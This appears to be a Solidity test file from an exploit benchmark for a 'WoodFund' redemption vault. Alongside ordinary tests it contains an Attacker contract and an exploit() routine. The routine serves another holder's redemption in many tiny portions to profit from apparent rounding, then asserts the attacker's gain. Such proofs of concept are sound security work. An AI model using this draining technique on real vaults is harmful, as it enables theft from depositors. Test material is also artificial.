// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-c200c689-771b-4651-86f7-364125440ea6

import "./WoodFund.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// Has many shares, and serves somebody else in small portions before it leaves.
contract Attacker {
    function help(WoodFund fund, address account, uint256 times) external {
        for (uint256 i = 0; i < times && i < 40; i++) {
            uint256 portion = fund.totalSupply() / 1_000 - 1;
            uint256 left = fund.askedFor(account);
            if (left == 0) break;
            fund.serve(account, portion < left ? portion : left);
        }
    }

    function leave(WoodFund fund) external {
        uint256 shares = fund.balanceOf(address(this));
        fund.ask(shares);
        fund.serve(address(this), shares);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);
    uint256 private constant START = 1_785_400_000;

    Coin public coin;
    WoodFund public fund;
    Attacker public partner;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        fund = new WoodFund(coin, START + 30 days);
        partner = new Attacker();
        _subscribe(ANNA, 3_000e18);
        _subscribe(BELA, 7_000e18);
        coin.approve(address(fund), type(uint256).max);
        fund.subscribe(90_000e18);
        fund.transfer(address(partner), 90_000e18);
        vm.warp(START + 400 days);
        vm.prank(ANNA);
        fund.ask(3_000e18);
    }

    function _subscribe(address who, uint256 coins) private {
        coin.transfer(who, coins);
        vm.startPrank(who);
        coin.approve(address(fund), coins);
        fund.subscribe(coins);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(fund.balanceOf(ANNA) == 0 && fund.askedFor(ANNA) == 3_000e18, "asked");
        coin.transfer(address(fund), 10_000e18);
        require(fund.worth(1_000e18) == 1_100e18, "worth");
        require(fund.serve(ANNA, 1_000e18) == 1_100e18 && coin.balanceOf(ANNA) == 1_100e18, "served");
        vm.startPrank(ANNA);
        fund.takeBack(500e18);
        fund.approve(BELA, 250e18);
        fund.transfer(BELA, 250e18);
        vm.stopPrank();
        vm.startPrank(BELA);
        fund.transferFrom(ANNA, BELA, 250e18);
        fund.ask(fund.balanceOf(BELA));
        vm.stopPrank();
        require(fund.askedFor(ANNA) == 1_500e18 && fund.askedFor(BELA) == 7_500e18, "asked too");
        require(fund.totalSupply() == 99_000e18 && coin.balanceOf(address(fund)) == 108_900e18, "the rest");
    }

    function test_RefusesSubscribers() public {
        vm.expectRevert(abi.encodeWithSelector(Subscription.Over.selector, START + 30 days));
        fund.subscribe(1);
    }

    function test_RefusesEarly() public {
        vm.warp(START + 30 days - 1);
        vm.expectRevert(abi.encodeWithSelector(Subscription.NotYet.selector, START + 30 days));
        fund.serve(ANNA, 1);
    }

    function test_RefusesShares() public {
        vm.expectRevert(abi.encodeWithSelector(WoodFund.Nothing.selector));
        fund.serve(ANNA, 0);
        vm.expectRevert(abi.encodeWithSelector(WoodFund.TooMany.selector, 3_000e18 + 1, 3_000e18));
        fund.serve(ANNA, 3_000e18 + 1);
        vm.prank(BELA);
        vm.expectRevert(abi.encodeWithSelector(WoodFund.TooMany.selector, 1, 0));
        fund.takeBack(1);
    }

    function exploit() public {
        partner.help(fund, ANNA, 40);
        partner.leave(fund);
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(partner)) >= 92_500e18, "no gain");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(partner);
    }
}
